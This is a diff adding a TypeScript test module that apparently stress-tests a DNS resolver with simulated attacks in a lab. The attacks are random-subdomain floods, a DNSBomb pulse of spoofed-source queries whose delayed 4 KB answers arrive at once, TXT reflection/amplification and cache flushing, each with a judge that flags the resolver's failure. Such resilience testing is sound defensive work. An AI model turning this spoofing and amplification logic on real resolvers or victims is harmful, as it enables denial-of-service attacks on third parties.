@@ -1,0 +1,163 @@
+import type { Attack, Facts, Hands } from "../frame/attack.ts";
+import { EVIL_ZONES, PLACES } from "../frame/places.ts";
+import type { Socket } from "../frame/sockets.ts";
+import { address, query, reply, text, truncated, TYPE, u32 } from "../frame/wire.ts";
+
+const SUBDOMAINS = 2_000;
+/** Queries of one DNSBomb. */
+const BOMB = 5_000;
+/** All that is asked is answered at the same moment, so long after the first. */
+const BOMB_HELD_MS = 1_500;
+const BOMB_BYTES = 4_000;
+/** The span in which bytes towards the victim are counted. */
+const WINDOW_MS = 400;
+/** More than this in one window is a pulse. */
+const WINDOW_BYTES = 512 * 1024;
+const REFLECTED = 2_000;
+const REFLECTED_BYTES = 1_100;
+/** Bytes towards the victim for each that the attacker sent. */
+const MAX_AMPLIFICATION = 3;
+
+async function subdomains(
+  { udp, paced }: Hands,
+  sources: readonly string[],
+): Promise<Facts> {
+  const sockets = sources.map((address) => udp({ address }));
+  let answered = 0;
+  const asked = await paced(
+    SUBDOMAINS,
+    (n) => {
+      const zone = n % 3 === 0 ? EVIL_ZONES.tcp : EVIL_ZONES.udp;
+      sockets[n % sockets.length]!.send(query(`x${n}-${Deno.pid}.${zone}`));
+    },
+    () => sockets.forEach((socket) => answered += socket.drain().count),
+  );
+  return { asked, answered };
+}
+
+export const randomSubdomains: Attack = {
+  name: "random-subdomains",
+  summary: `${SUBDOMAINS} random names a second of silent zones, from one client.`,
+  upstream: () => null,
+  attack: (hands) => subdomains(hands, [PLACES.attacker]),
+};
+
+export const randomSubdomainsFromTwo: Attack = {
+  name: "random-subdomains-two",
+  summary: "The same from two clients.",
+  upstream: () => null,
+  attack: (hands) => subdomains(hands, [PLACES.attacker, "10.244.0.67"]),
+};
+
+/** Counts what comes to the victim, by the time of its coming. */
+class Victim {
+  readonly #arrivals: { at: number; bytes: number }[] = [];
+  readonly #socket: Socket;
+  sent = 0;
+
+  constructor({ udp }: Hands) {
+    this.#socket = udp({ address: PLACES.victim, port: 80 }, { receiveBytes: 32 << 20 });
+  }
+
+  /** Sends a query with the victim's address as its source. */
+  ask(message: Uint8Array): void {
+    this.sent += message.length;
+    this.#socket.send(message);
+  }
+
+  collect(): void {
+    const { bytes } = this.#socket.drain();
+    if (bytes > 0) this.#arrivals.push({ at: performance.now(), bytes });
+  }
+
+  get bytes(): number {
+    return this.#arrivals.reduce((sum, { bytes }) => sum + bytes, 0);
+  }
+
+  /** Most bytes within any window. */
+  get pulse(): number {
+    return Math.max(
+      0,
+      ...this.#arrivals.map(({ at }) =>
+        this.#arrivals.filter((other) => other.at >= at && other.at < at + WINDOW_MS)
+          .reduce((sum, { bytes }) => sum + bytes, 0)
+      ),
+    );
+  }
+}
+
+let heldSince = 0;
+
+/** Holds every answer until the same moment. */
+function heldReply(message: Uint8Array) {
+  const now = performance.now();
+  if (now - heldSince > BOMB_HELD_MS) heldSince = now;
+  return {
+    delayMs: heldSince + BOMB_HELD_MS - now,
+    message: reply(message, { answers: [text(60, BOMB_BYTES)] }),
+  };
+}
+
+export const dnsBomb: Attack = {
+  name: "dnsbomb",
+  summary: `${BOMB} queries in a victim's name, whose answers of 4 KB come all at once.`,
+  upstream: (message, transport) => transport === "udp" ? truncated(message) : heldReply(message),
+  async attack(hands) {
+    const victim = new Victim(hands);
+    const rate = BOMB / (BOMB_HELD_MS / 1000);
+    await hands.paced(rate, (n) => {
+      // The second half asks for the same few names, so that many wait for one question.
+      const name = n % 2 === 0 ? `b${n}` : `b${n % 10}-same`;
+      if (n < BOMB) {
+        victim.ask(query(`${name}.${EVIL_ZONES.tcp}`, TYPE.TXT, { edns: 4096 }));
+      }
+    }, () => victim.collect());
+    const { sent, bytes, pulse } = victim;
+    return { sent, received: bytes, [`most in ${WINDOW_MS} ms`]: pulse };
+  },
+  judge: ({ facts }) =>
+    Number(facts[`most in ${WINDOW_MS} ms`]) > WINDOW_BYTES
+      ? [`${facts[`most in ${WINDOW_MS} ms`]} bytes came to the victim within ${WINDOW_MS} ms`]
+      : [],
+};
+
+export const reflection: Attack = {
+  name: "reflection",
+  summary: `${REFLECTED} queries a second in a victim's name for a cached answer of 1.1 KB.`,
+  upstream: (message) => reply(message, { answers: [text(600, REFLECTED_BYTES)] }),
+  async attack(hands) {
+    const victim = new Victim(hands);
+    const message = query(`large.${EVIL_ZONES.udp}`, TYPE.TXT, { edns: 4096 });
+    const asked = await hands.paced(
+      REFLECTED,
+      () => victim.ask(message),
+      () => victim.collect(),
+    );
+    const { sent, bytes } = victim;
+    return { asked, sent, received: bytes, amplification: Number((bytes / sent).toFixed(1)) };
+  },
+  judge: ({ facts }) =>
+    Number(facts.amplification) > MAX_AMPLIFICATION
+      ? [`for each octet sent, ${facts.amplification} came to the victim`]
+      : [],
+};
+
+const FLUSH = 6_000;
+
+export const cacheFlush: Attack = {
+  name: "cache-flush",
+  summary: `${FLUSH} names a second that exist, from one client, through a cache of 9,984 entries.`,
+  upstream: (message) => reply(message, { answers: [address(600, u32(0x0a420002))] }),
+  async attack({ udp, paced }) {
+    const socket = udp();
+    let answered = 0;
+    const asked = await paced(
+      FLUSH,
+      (n) => socket.send(query(`f${n}-${Deno.pid}.${EVIL_ZONES.udp}`)),
+      () => answered += socket.drain().count,
+    );
+    return { asked, answered };
+  },
+  judge: ({ hitsAskedAgain }) =>
+    hitsAskedAgain > 0 ? [`${hitsAskedAgain} names of the other client were evicted`] : [],
+};
